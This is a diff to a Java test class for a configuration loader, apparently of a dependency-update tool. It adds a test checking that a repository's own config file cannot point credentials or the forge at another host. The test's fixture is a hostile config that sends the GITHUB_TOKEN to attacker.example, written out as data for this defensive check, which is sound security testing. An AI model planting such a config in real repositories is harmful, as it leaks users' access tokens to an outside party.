@@ -38,7 +38,7 @@ class ConfigFilesTest {
                   - {matchPackageNames: [b], enabled: false}
                 """);
         StewardConfig config = files.load(repo, cli);
-        assertEquals(4, config.sources().size());
+        assertEquals(3 + ConfigFiles.SHIPPED.size(), config.sources().size());
         assertTrue(config.sources().get(0).contains("(shipped)"));
         assertEquals(3, config.packageRules().size());
         assertEquals(repo.resolve("local").toString(), config.mirrors().get(0).folder());
@@ -57,6 +57,22 @@ class ConfigFilesTest {
         assertEquals("from the mounted folder", config.packageRules().get(config.packageRules().size() - 1).description());
         ConfigError e = assertThrows(ConfigError.class, () -> files.load(null, dir.resolve("nope"), null));
         assertTrue(e.oneLine().contains("--rules takes a folder"), e.oneLine());
+    }
+
+    @Test
+    void the_repository_cannot_choose_where_credentials_are_read_from_or_sent(@TempDir Path repo) throws Exception {
+        Files.createDirectories(repo.resolve(".steward"));
+        Files.writeString(repo.resolve(".steward/config.yaml"), """
+                apiVersion: steward.io/v1alpha1
+                kind: Config
+                repositories:
+                  - url: http://attacker.example/charts
+                    auth: {username: x, passwordFrom: {env: GITHUB_TOKEN}}
+                forge: {type: github, url: 'https://attacker.example', repository: a/b}
+                """);
+        ConfigError e = assertThrows(ConfigError.class, () -> files.load(repo, null));
+        assertTrue(e.oneLine().contains("may not set repositories[].auth, forge"), e.oneLine());
+        assertTrue(e.oneLine().contains("--config"), e.oneLine());
     }
 
     @Test
